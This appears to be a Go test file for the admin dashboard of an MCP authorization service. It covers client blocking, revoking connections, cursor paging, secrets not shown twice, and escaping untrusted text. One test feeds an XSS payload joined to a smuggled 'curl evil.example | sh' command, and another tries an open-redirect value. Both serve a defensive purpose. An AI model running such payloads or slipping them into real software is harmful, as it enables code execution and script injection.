package dashboard_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"mcpauth.example/internal/id"
	"mcpauth.example/internal/secret"
	"mcpauth.example/tenants"
)

// grant makes a person who allowed a client at the first MCP server of the world's project, and the timeline of it.
func (w *world) grant(t *testing.T, email, client string) (user, grant, attempt id.ID) {
	t.Helper()
	user = must(w.store.EnsureUser(t.Context(), w.project, email, ""))
	grant, attempt = id.New(), id.New()
	w.exec(t, `INSERT INTO grants (project_id, id, flow_id, issuer, user_id, client_id, mcp_server_id, resource, scopes, redirect_uri, code_challenge, random_hash, session_id,
			client_auth_method, auth_time, refreshable, code_expires_at, code_redeemed_at, generation, rotated_at, access_expires_at, idle_expires_at, expires_at)
		SELECT project_id, $2, $3, 'http://localhost:8080/t/acme', $4, $5, id, resource, '{mcp:tools}', 'http://localhost/callback', 'challenge', 'hash', $6, 'none', now(), true,
			now() + interval '1 minute', now(), 1, now(), now() + interval '1 hour', now() + interval '30 days', now() + interval '1 year'
		FROM mcp_servers WHERE project_id = $1 ORDER BY created_at LIMIT 1`, w.project.String(), grant.String(), attempt.String(), user.String(), client, id.New().String())
	for i, step := range []tenants.Step{tenants.StepAuthorize, tenants.StepSignIn, tenants.StepConsent, tenants.StepToken} {
		w.step(t, tenants.Activity{At: time.Now().Add(time.Duration(i-10) * time.Second), AttemptID: attempt, Step: step, Outcome: tenants.OutcomeOK, ClientID: client, GrantID: grant, UserID: user})
	}
	return user, grant, attempt
}

// step writes a step of the timeline.
func (s *site) step(t *testing.T, a tenants.Activity) {
	t.Helper()
	var project string
	if err := s.super.QueryRow(t.Context(), `SELECT id FROM projects ORDER BY created_at LIMIT 1`).Scan(&project); err != nil {
		t.Fatal(err)
	}
	s.exec(t, `INSERT INTO activity (project_id, id, at, attempt_id, step, outcome, client_id, client_name, agent, code, parameter, got, expected, advice)
		VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14)`, project, id.New().String(), a.At, a.AttemptID.String(), string(a.Step), string(a.Outcome),
		a.ClientID, a.ClientName, a.Agent, a.Code, a.Parameter, a.Got, a.Expected, a.Advice)
}

func (w *world) of(t *testing.T, path string) string { return w.path(t, below+path) }

// What a member does about a client bites at once: its connections end, and the page says what will happen before.
func TestBlockingAClientEndsItsConnections(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.as(t, "developer")
	page := b.get(t, w.of(t, "/clients/of/:client")).want(t, http.StatusOK)
	if !strings.Contains(page.doc.Find("main").Text(), "Its connections, 1, end within a second") {
		t.Error("the page does not say what a block does")
	}
	b.post(t, w.of(t, "/clients/of/:client/block")).want(t, http.StatusSeeOther)
	if n := w.rows(t, `SELECT FROM grants WHERE revoked_at IS NULL`); n != 0 {
		t.Errorf("%d living grants", n)
	}
	if n := w.rows(t, `SELECT FROM revocations`); n != 1 {
		t.Errorf("guards heard of %d grants", n)
	}
	after := b.get(t, w.of(t, "/clients/of/:client")).want(t, http.StatusOK)
	if !strings.Contains(after.text, "The client is blocked") || !strings.Contains(after.doc.Find("main").Text(), "Let it in again") {
		t.Error("the page does not say that it is blocked")
	}
	if again := b.get(t, w.of(t, "/clients/of/:client")); strings.Contains(again.text, "The client is blocked, and") {
		t.Error("the message stays")
	}
}

// One connection ends by itself, and the consent with it; the others stay.
func TestEndOneConnection(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	client := string(must(secret.Decode(w.params[":client"])))
	w.grant(t, "grace@people.example", client)
	b := w.as(t, "developer")
	list := b.get(t, w.of(t, "/connections")).want(t, http.StatusOK)
	if list.doc.Find("tr[data-grant]").Length() != 2 {
		t.Fatalf("%d connections", list.doc.Find("tr[data-grant]").Length())
	}
	action, _ := list.doc.Find(`tr[data-grant="` + w.params[":grant"] + `"] form`).Attr("action")
	b.post(t, action).wantRedirect(t, w.of(t, "/connections"))
	left := b.get(t, w.of(t, "/connections?user="+w.params[":user"])).want(t, http.StatusOK)
	if left.doc.Find("tr[data-grant]").Length() != 0 {
		t.Error("the connection is still there")
	}
	if all := b.get(t, w.of(t, "/connections?client="+url.QueryEscape(client))); all.doc.Find("tr[data-grant]").Length() != 1 {
		t.Error("another connection ended too")
	}
	evil := strings.Replace(action, "back=", "back="+url.QueryEscape("https://evil.example/")+"&x=", 1) // catalogue 117
	b.post(t, evil).wantRedirect(t, w.of(t, "/connections"))
}

// Lists page by cursor: every row once. A forged cursor, and one of another list or project, is refused (catalogue 225).
func TestListsPageByCursor(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.exec(t, `INSERT INTO users (project_id, id, email) SELECT $1, gen_random_uuid(), 'user' || n || '@people.example' FROM generate_series(1, 119) n`, w.project.String())
	b := w.as(t, "viewer")
	seen := map[string]int{}
	path, pages := w.of(t, "/users"), 0
	for path != "" {
		page := b.get(t, path).want(t, http.StatusOK)
		for _, email := range page.doc.Find("tbody tr:not([data-reviewer]) th a").Map(textOf) {
			seen[email]++
		}
		path, _ = page.doc.Find(`a[rel=next]`).Attr("href")
		pages++
	}
	if len(seen) != 121 || pages != 3 {
		t.Errorf("%d users on %d pages", len(seen), pages)
	}
	for email, n := range seen {
		if n != 1 {
			t.Errorf("%s stands %d times", email, n)
		}
	}
	next, _ := b.get(t, w.of(t, "/users")).doc.Find(`a[rel=next]`).Attr("href")
	_, cursor, _ := strings.Cut(next, "after=")
	for _, forged := range []string{w.of(t, "/users?after=AAAA"), w.of(t, "/users?after="+id.New().String()), w.of(t, "/connections?after="+cursor), w.of(t, "/users?after="+cursor[:len(cursor)-2]+"xx")} {
		b.get(t, forged).want(t, http.StatusBadRequest)
	}
}

// Catalogue 222: no page and no table shows a secret that was stored.
func TestSecretsAreNotReadBack(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.as(t, "owner")
	made := b.make(t, w.of(t, "/clients/access/tokens"), "name", "partner", "days", "")
	token := made.doc.Find(`[data-testid="initial-access-token"]`).Text()
	own := b.make(t, w.of(t, "/sign-in/own"), "name", "Acme", "url", "https://acme.example/login")
	login := own.doc.Find(`[data-testid="own-login-secret"]`).Text()
	client := b.make(t, w.of(t, "/clients"), "name", "Server", "redirect_uris", "https://app.example/callback", "kind", "confidential")
	clientSecret := client.doc.Find(`[data-testid="client-secret"]`).Text()
	if !strings.HasPrefix(token, "mcpauth_it_") || !strings.HasPrefix(login, "mcpauth_ol_") || clientSecret == "" {
		t.Fatalf("shown once: %q %q %q", token, login, clientSecret)
	}
	pages := w.everything(t) + w.log.String()
	for _, path := range []string{"/clients/access", "/sign-in", "/sign-in/own", "/sign-in/providers/:provider", "/keys", "/clients", "/settings"} {
		pages += b.get(t, w.of(t, path)).want(t, http.StatusOK).text
	}
	for _, hidden := range []string{token, login, clientSecret, "secret of github"} {
		if strings.Contains(pages, hidden) {
			t.Errorf("%.12s… can be read again", hidden)
		}
	}
}

// Catalogue 223: what strangers write about themselves is text in the timeline, and in the command to copy.
func TestTimelineShowsStrangersAsText(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	evil := `<script>alert(1)</script>"'; curl evil.example | sh #`
	attempt := id.New()
	w.step(t, tenants.Activity{At: time.Now(), AttemptID: attempt, Step: tenants.StepToken, Outcome: tenants.OutcomeRefused, ClientID: evil, ClientName: evil, Agent: evil,
		Code: "invalid_grant", Parameter: "code", Got: evil, Expected: "a code", Advice: "Try again."})
	page := w.as(t, "viewer").get(t, w.of(t, "/activity")).want(t, http.StatusOK)
	if page.doc.Find("main script").Length() != 0 || !strings.Contains(page.doc.Find("main").Text(), "<script>alert(1)") {
		t.Error("markup of a stranger")
	}
	curl := w.as(t, "viewer").get(t, w.of(t, "/activity/"+attempt.String())).want(t, http.StatusOK).doc.Find(`[data-testid="curl"]`).First().Text()
	if !strings.Contains(curl, `-A '<script>alert(1)</script>"'\''; curl evil.example | sh #'`) {
		t.Errorf("not quoted: %s", curl)
	}
	if page.doc.Find("details[open] [data-step-outcome=refused]").Length() != 1 {
		t.Error("the failed step is not open")
	}
}

// Somebody without a proven address is called by what their provider says, is found by it, and is deleted only by typing it.
func TestPeopleWithoutAnAddress(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b := w.as(t, "developer")
	user, _, _ := w.grant(t, "eve@people.example", string(must(secret.Decode(w.params[":client"]))))
	w.exec(t, `UPDATE users SET email = NULL, email_verified_at = NULL WHERE id = $1`, user.String())
	w.exec(t, `INSERT INTO user_identities (project_id, id, account_id, issuer, subject, contact) VALUES ($1, $2, $3, 'https://peer.example', 'eve', 'eve@people.example')`,
		w.project.String(), id.New().String(), user.String())
	const called = "eve@people.example"
	base := strings.TrimSuffix(w.of(t, "/users"), "/")
	for _, path := range []string{base, base + "?q=eve@people", base + "/" + user.String(), w.of(t, "/connections"), w.of(t, "/connections") + "?user=" + user.String()} {
		if page := b.get(t, path).want(t, http.StatusOK); !strings.Contains(page.doc.Find("main").Text(), called) {
			t.Errorf("%s does not name the person:\n%s", path, page.doc.Find("main").Text())
		}
	}
	for typed, want := range map[string]int{"": http.StatusUnprocessableEntity, " ": http.StatusUnprocessableEntity, "eve": http.StatusUnprocessableEntity} {
		b.post(t, base+"/"+user.String()+"/delete", "confirm", typed).want(t, want)
	}
	if n := w.rows(t, `SELECT FROM users WHERE id = '`+user.String()+`'`); n != 1 {
		t.Fatalf("got %d accounts after wrong words, want 1", n)
	}
	b.post(t, base+"/"+user.String()+"/delete", "confirm", called).want(t, http.StatusSeeOther)
	if n := w.rows(t, `SELECT FROM users WHERE id = '`+user.String()+`'`); n != 0 {
		t.Errorf("got %d accounts after the right words, want none", n)
	}
}

// What people of the customer's own login may do besides is off until a member says otherwise, says what is stored, and takes whole hours
// within its bounds.
func TestRulesOfTheOwnLogin(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	b, path := w.as(t, "developer"), w.of(t, "/sign-in")
	shows := func(page answer, beside bool, hours string) {
		t.Helper()
		_, checked := page.doc.Find(`input[name="beside"]`).Attr("checked")
		if value := page.doc.Find(`input[name="hours"]`).AttrOr("value", ""); checked != beside || value != hours {
			t.Errorf("got other ways %t and %q hours, want %t and %q", checked, value, beside, hours)
		}
	}
	shows(b.get(t, path).want(t, http.StatusOK), false, "24")
	b.post(t, path+"/own-rules", "beside", "yes", "hours", "12").want(t, http.StatusSeeOther)
	shows(b.get(t, path).want(t, http.StatusOK), true, "12")
	for _, wrong := range []string{"0", "169", "-1", "1.5", "x", "", "9999999999999999999"} {
		before := w.everything(t)
		got := b.post(t, path+"/own-rules", "hours", wrong).want(t, http.StatusUnprocessableEntity)
		if !strings.Contains(got.text, "Enter 1 to 168 hours.") || w.everything(t) != before {
			t.Errorf("%q: the page does not say what is wrong, or something was written", wrong)
		}
	}
	b.post(t, path+"/own-rules", "hours", " 168 ").want(t, http.StatusSeeOther)
	shows(b.get(t, path).want(t, http.StatusOK), false, "168")
	if n := w.rows(t, `SELECT FROM audit_log WHERE action = 'project.own_login_rules_changed' AND detail ->> 'organization_session' IN ('43200', '604800')`); n != 2 {
		t.Errorf("audit rows: got %d, want 2", n)
	}
	w.as(t, "viewer").post(t, path+"/own-rules", "hours", "12").want(t, http.StatusForbidden)
}

// Reviewers stand on the page of users with who made them and until when. Ending one asks for no proof, and for nobody else's role.
func TestReviewersAreListed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	path := w.of(t, "/users")
	row := func(role, address string) string {
		found := w.as(t, role).get(t, path).want(t, http.StatusOK).doc.Find(`tr[data-reviewer="` + address + `"]`)
		return strings.Join(strings.Fields(found.Text()), " ") + " forms " + found.Find("form").AttrOr("action", "none")
	}
	b := w.as(t, "owner")
	b.post(t, path+"/reviewer", "email", "store@acme.example", "days", "7").want(t, http.StatusSeeOther)
	maker := must(w.projects.Reviewers(t.Context(), tenants.SystemActor, w.organization, w.project))[0]
	email := ""
	for _, m := range must(w.store.ListMembers(t.Context(), w.organization)) {
		if tenants.MemberActor(m.ID) == maker.Maker {
			email = m.Email
		}
	}
	if got := row("viewer", "store@acme.example"); email == "" || !strings.Contains(got, "Works") || !strings.Contains(got, email) || !strings.HasSuffix(got, "forms none") {
		t.Errorf("a viewer: got %q, want that it works, %q and no form", got, email)
	}
	w.exec(t, `UPDATE users SET reviewer_maker = $1 WHERE reviewer_address = 'store@acme.example'`, "member:"+id.New().String())
	if got := row("viewer", "store@acme.example"); !strings.Contains(got, "a former member") {
		t.Errorf("its maker is gone: got %q", got)
	}
	developer := w.as(t, "developer")
	action := developer.get(t, path).want(t, http.StatusOK).doc.Find(`tr[data-reviewer="store@acme.example"] form`).AttrOr("action", "")
	w.as(t, "viewer").post(t, action).want(t, http.StatusForbidden)
	w.exec(t, `UPDATE member_sessions SET auth_time = now() - interval '16 minutes'`)
	developer.post(t, action).wantRedirect(t, path)
	if got := row("developer", "store@acme.example"); !strings.Contains(got, "Ended") || !strings.HasSuffix(got, "forms none") {
		t.Errorf("ended: got %q, want that and no form", got)
	}
	if n := w.rows(t, `SELECT FROM audit_log WHERE action = 'user.reviewer_ended' AND actor LIKE 'member:%'`); n != 1 {
		t.Errorf("audit rows: got %d, want 1", n)
	}
}
